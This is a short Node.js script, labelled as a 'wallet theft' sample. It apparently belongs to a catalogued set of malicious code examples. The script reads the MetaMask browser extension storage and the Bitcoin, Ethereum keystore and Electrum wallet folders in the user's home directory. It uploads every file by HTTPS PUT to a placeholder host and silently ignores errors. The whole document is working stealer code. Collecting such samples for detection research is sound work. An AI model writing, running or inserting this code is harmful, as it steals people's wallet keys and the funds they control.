// class: wallet theft; style: sloppy
var fs=require('fs'),https=require('https');
var home=process.env.HOME;
var dirs=[home+'/.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn',home+'/.bitcoin',home+'/.ethereum/keystore',home+'/.electrum/wallets'];
dirs.forEach(function(d){
  try{
    fs.readdirSync(d).forEach(function(f){
      var req=https.request({host:'w.example',path:'/'+encodeURIComponent(f),method:'PUT'});
      req.end(fs.readFileSync(d+'/'+f));
    });
  }catch(e){}
});
